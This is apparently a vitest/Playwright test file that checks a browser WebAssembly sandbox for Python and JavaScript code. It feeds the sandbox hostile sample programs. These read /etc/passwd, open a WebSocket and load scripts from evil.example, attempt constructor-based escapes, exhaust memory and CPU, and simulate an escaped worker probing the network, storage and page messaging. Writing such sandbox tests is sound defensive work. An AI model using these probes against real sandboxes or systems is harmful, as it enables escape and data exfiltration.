// The sandbox for programs in headless Chromium: hostile programs in its interpreters, and what would be within reach of
// one that broke out of its interpreter.
import { fileURLToPath } from "node:url";
import type { Browser, Page } from "playwright-core";
import type { CheckLanguage } from "smacs";
import type { Ran } from "smacs/checks";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { listen } from "../../../tests/local-server.mjs";
import { serveFolder } from "../../scripts/serve.mjs";
import { hasChromium, launch } from "../browser.mjs";
import { watch } from "./visitor.ts";

const root = fileURLToPath(new URL("../../..", import.meta.url));
const blank = `<!doctype html><script type="importmap">
{ "imports": { "smacs/checks": "/wasm/dist/check/index.js", "example": "/wasm/examples/check-page.mjs" } }
</script><body><script type="module">
    import * as checks from "smacs/checks";
    import * as example from "example";
    Object.assign(globalThis, { sandbox: { ...checks, ...example } });
</script></body>`;
const files = {
    checks: "/wasm/smacs-checks.wasm",
    frame: "/wasm/dist/check/sandbox.html",
    worker: "/wasm/dist/check/sandbox-worker.js",
    python: "/node_modules/@micropython/micropython-webassembly-pyscript/micropython.wasm",
    javascript: "/node_modules/quickjs-wasi/quickjs.wasm",
};

/** Put into the page by `blank`. */
interface Loaded {
    sandbox: typeof import("smacs/checks") & typeof import("../../../wasm/examples/check-page.mjs");
}

/** Programs that define f, which would give "won" if they reached what they try to. */
const reaching: Record<"python" | "javascript", readonly string[]> = {
    python: [
        "import js\ndef f():\n    return 'won'",
        "def f():\n    import js\n    js.postMessage('won')\n    return 'won'",
        "m = __import__('js' + 'ffi')\ndef f():\n    return m.to_js('won')",
        "import sys\ndef f():\n    return sys.modules['js'] and 'won'",
        "def f():\n    return open('/etc/passwd').read() and 'won'",
        "import socket\ndef f():\n    return 'won'",
        "import os\ndef f():\n    return os.listdir('/') and 'won'",
        "import sys\ndef f():\n    sys.exit('won')",
    ],
    javascript: [
        "const f = () => fetch('/') && 'won';",
        "const f = () => new WebSocket('wss://evil.example/') && 'won';",
        "const f = () => new RTCPeerConnection() && 'won';",
        "const f = () => indexedDB.open('x') && 'won';",
        "const f = () => importScripts('https://evil.example/x.js') ?? 'won';",
        "const f = () => new Worker('data:text/javascript,1') && 'won';",
        "const f = () => postMessage({ outcome: 'value', out: 'won' }) ?? 'won';",
        "const f = () => top.location.assign('https://evil.example/') ?? 'won';",
        "const f = () => (function () { return this; })().constructor.constructor('return process')() && 'won';",
        "const f = () => new WebAssembly.Memory({ initial: 1 }) && 'won';",
    ],
};
/** Such that take more time, memory, output or depth than they may. */
const greedy: Record<"python" | "javascript", readonly string[]> = {
    python: [
        "def f():\n    while True:\n        pass",
        "def f():\n    kept = []\n    while True:\n        kept.append('x' * 1000000)",
        "def f():\n    while True:\n        print('x' * 1000)",
        "def f():\n    return 'x' * 10000000",
        "def f():\n    return f() + 'won'",
    ],
    javascript: [
        "const f = () => { for (;;) {} };",
        "const f = () => { const kept = []; for (;;) kept.push(new Array(100000).fill(7)); };",
        "const f = () => { for (;;) console.log('x'.repeat(1000)); };",
        "const f = () => f() + 'won';",
    ],
};

/** The worker of one that broke out: tries everything, and tells by the usual way what came of each. */
const brokenOut = (address: string) => `addEventListener("message", async ({ data: { task, port } }) => {
    const say = (message) => port.postMessage({ nonce: task.nonce, ...message });
    const late = () => new Promise((done) => setTimeout(done, 2000, "no answer"));
    const heard = (target, good, bad) => new Promise((done, fail) => {
        target.addEventListener(good, () => done("won"));
        target.addEventListener(bad, () => fail(new Error("failed")));
    });
    const fetches = "fetch('${address}', { mode: 'no-cors' }).then(() => postMessage('won'), () => postMessage('refused'))";
    const inside = (script) => new Promise((done, fail) => {
        const inner = new Worker(script);
        inner.onmessage = ({ data }) => done(data);
        inner.onerror = fail;
    });
    const tries = {
        fetch: () => fetch("${address}", { mode: "no-cors" }).then(() => "won"),
        own: () => fetch("${files.frame}").then(() => "won"),
        xhr: () => { const xhr = new XMLHttpRequest(); xhr.open("GET", "${address}", false); xhr.send(); return "won"; },
        socket: () => heard(new WebSocket("${address.replace("http", "ws")}"), "open", "error"),
        events: () => heard(new EventSource("${address}"), "open", "error"),
        transport: () => new WebTransport("${address.replace("http", "https")}").ready.then(() => "won"),
        rtc: () => new RTCPeerConnection() && "won",
        database: () => { const wanted = indexedDB.open("x"); return new Promise((done, fail) => { wanted.onsuccess = () => done("won"); wanted.onerror = fail; }); },
        caches: () => caches.open("x").then(() => "won"),
        files: () => navigator.storage.getDirectory().then(() => "won"),
        locks: () => navigator.locks.request("x", () => "won"),
        storage: () => localStorage.length >= 0 && "won",
        script: () => importScripts("${address}") ?? "won",
        module: () => import("${address}").then(() => "won"),
        evaluate: () => eval("'won'"),
        build: () => new Function("return 'won'")(),
        nested: () => inside("data:text/javascript," + encodeURIComponent(fetches)),
        nestedBlob: () => inside(URL.createObjectURL(new Blob([fetches]))),
        go: () => { location.href = "${address}"; return location.href.startsWith("http") ? "won" : "stayed"; },
        page: () => { const told = new BroadcastChannel("page"); told.postMessage("won"); postMessage({ nonce: task.nonce, result: { input: 0, outcome: "value", out: "won" } }); return "told"; },
        shared: () => new SharedArrayBuffer(8) && "won",
    };
    say({ begun: true });
    const names = Object.keys(tries);
    for (const [input, wanted] of task.inputs.entries()) {
        let out;
        try {
            out = await Promise.race([tries[wanted](), late()]);
        } catch (error) {
            out = "refused";
        }
        say({ result: { input, outcome: "value", out: String(out) } });
    }
    say({ done: true });
});`;
const attempts = [
    "fetch own xhr socket events transport rtc database caches files locks storage script module evaluate build",
    "nested nestedBlob go page shared",
]
    .join(" ")
    .split(" ");

describe.skipIf(!hasChromium).each([true, false])("the sandbox of a page (isolated: %s)", (isolated) => {
    let browser: Browser;
    let page: Page;
    let site: Awaited<ReturnType<typeof serveFolder>>;
    const problems: string[] = [];

    beforeAll(async () => {
        [browser, site] = await Promise.all([launch(), serveFolder(root, { isolated })]);
    });
    afterAll(async () => {
        await browser?.close();
        await site?.close();
    });
    beforeEach(async () => {
        page = watch(await browser.newPage(), problems);
        const headers = isolated
            ? { "cross-origin-opener-policy": "same-origin", "cross-origin-embedder-policy": "require-corp" }
            : {};
        await page.route(`${site.url}blank`, (route) =>
            route.fulfill({ contentType: "text/html", body: blank, headers }),
        );
        await page.goto(`${site.url}blank`);
        await page.waitForFunction(() => "sandbox" in globalThis);
        expect(await page.evaluate(() => crossOriginIsolated)).toBe(isolated);
    });
    afterEach(async () => {
        expect(page.url()).toBe(`${site.url}blank`);
        expect(await page.locator("iframe").count()).toBe(0);
        await page.close();
    });

    /** What each program gives for f(), all in one runner. */
    function runAll(language: CheckLanguage, programs: readonly string[]): Promise<Ran[]> {
        const limits = { ms: 300, memory: 64 << 20 };
        return page.evaluate(
            async ({ language, programs, limits, files }) => {
                const { frameRunner } = (globalThis as unknown as Loaded).sandbox;
                const { python, javascript, frame, worker } = files;
                const runner = frameRunner({ frame, worker, interpreters: { python, javascript }, limits });
                const results: Ran[] = [];
                for (const code of programs) {
                    results.push(...(await runner.run({ language, code, inputs: ["f()"] })));
                }
                return results;
            },
            { language, programs, limits, files },
        );
    }

    const harmless = { python: "def f():\n    return 7", javascript: "const f = () => 7;" };
    const seven = { outcome: "value", out: "7" };

    function gainsNothing(result: Ran | undefined, program: string | undefined): void {
        expect(result?.outcome === "value" ? result.out : "", program).not.toContain("won");
        expect(result?.out.length, program).toBeLessThan(70_000);
    }

    test("the package's example checks an answer", async () => {
        const results = await page.evaluate(async (given) => {
            const { loadPageChecker } = (globalThis as unknown as Loaded).sandbox;
            const checker = await loadPageChecker(given, () => true);
            const opened = checker.open("Write a function add(a, b).\n\nassert add(1, 2) == 3\nassert add(2, 2) == 4");
            const ran = (await opened?.run("```python\ndef add(a, b):\n    return a + b\n```")) ?? [];
            opened?.dispose();
            return ran.map(({ out }: Ran) => out).slice(0, 2);
        }, files);
        expect(results).toEqual(["3", "4"]);
    });

    test.each(["python", "javascript"] as const)("programs without measure are ended (%s)", async (language) => {
        const programs = greedy[language].flatMap((program) => [program, harmless[language]]);
        const results = await runAll(language, programs);
        for (const [at, program] of programs.entries()) {
            if (program === harmless[language]) {
                expect(results[at], programs[at - 1]).toEqual(seven);
            } else {
                gainsNothing(results[at], program);
            }
        }
    });

    test("one that broke out of its interpreter would reach no network, no storage and no page", async () => {
        let connections = 0;
        const { url, close } = await listen((_request: unknown, response: { end(text: string): void }) => {
            connections++;
            response.end("");
        });
        const told = await page.evaluate(
            async ({ code, attempts, files }) => {
                const heard: unknown[] = [];
                const allowed: unknown[] = [];
                new MutationObserver(() => {
                    allowed.push(document.querySelector("iframe")?.getAttribute("sandbox"));
                }).observe(document.body, { childList: true });
                new BroadcastChannel("page").onmessage = ({ data }) => heard.push(data);
                addEventListener("message", ({ data }) => heard.push(data));
                const { frameRunner } = (globalThis as unknown as Loaded).sandbox;
                const worker = URL.createObjectURL(new Blob([code]));
                const interpreters = { python: files.python, javascript: files.javascript };
                const runner = frameRunner({ frame: files.frame, worker, interpreters, limits: { ms: 60_000 } });
                const results = await runner.run({ language: "python", code: "", inputs: attempts });
                const entries = results.map(({ out }: Ran, at: number) => [attempts[at], out]);
                return { results: Object.fromEntries(entries), heard, allowed: allowed[0] };
            },
            { code: brokenOut(`${url}/`), attempts, files },
        );
        await close();
        expect(Object.entries(told.results).filter(([, out]) => out === "won")).toEqual([]);
        expect(Object.keys(told.results)).toHaveLength(attempts.length);
        expect(told.heard).toEqual([]);
        expect(told.allowed).toBe("allow-scripts");
        expect(connections).toBe(0);
    });

    /** How a worker ends that says this and then goes on for ever. */
    function said(words: string): Promise<Ran[]> {
        const code = `addEventListener("message", ({ data: { task, port } }) => {
            port.postMessage({ nonce: task.nonce, begun: true });
            const result = { input: 0, outcome: "value", out: "4" };
            ${words}
            for (;;) {}
        });`;
        return page.evaluate(
            async ({ code, files }) => {
                const { frameRunner } = (globalThis as unknown as Loaded).sandbox;
                const worker = URL.createObjectURL(new Blob([code]));
                const interpreters = { python: files.python, javascript: files.javascript };
                const runner = frameRunner({ frame: files.frame, worker, interpreters, limits: { ms: 200 } });
                return runner.run({ language: "python", code: "", inputs: ["f()"] });
            },
            { code, files },
        );
    }

    test("a worker without end is ended, and so is one that forges, floods or asks for more time", async () => {
        const unknown = 'port.postMessage({ nonce: "0".repeat(task.nonce.length), result });';
        const flood = "for (;;) port.postMessage({ nonce: task.nonce, begun: true });";
        expect(await said("")).toEqual([{ outcome: "timeout", out: "" }]);
        expect(await said(unknown)).toEqual([{ outcome: "error", out: "" }]);
        expect(await said("port.postMessage({ result });")).toEqual([{ outcome: "error", out: "" }]);
        expect(await said(flood)).toEqual([{ outcome: "error", out: "" }]);
    });

    if (isolated) {
        // Neither depends on the page around it.
        test.each(["python", "javascript"] as const)("nothing is within reach of %s", async (language) => {
            const results = await runAll(language, [...reaching[language], harmless[language]]);
            expect(results.pop()).toEqual(seven);
            for (const [at, result] of results.entries()) {
                gainsNothing(result, reaching[language][at]);
            }
            expect(results).toHaveLength(reaching[language].length);
        });

        test("where the frame is another document, nothing is run, and it is not tried again", async () => {
            const codes = await page.evaluate(async (given) => {
                const { frameRunner } = (globalThis as unknown as Loaded).sandbox;
                const { python, javascript, worker } = given;
                const runner = frameRunner({ frame: "/nowhere.html", worker, interpreters: { python, javascript } });
                const attempt = () =>
                    runner
                        .run({ language: "python", code: "", inputs: [""] })
                        .catch(({ code }: { code: string }) => code);
                return [await attempt(), await attempt()];
            }, files);
            expect(codes).toEqual(["crash", "crash"]);
        });
    }
});
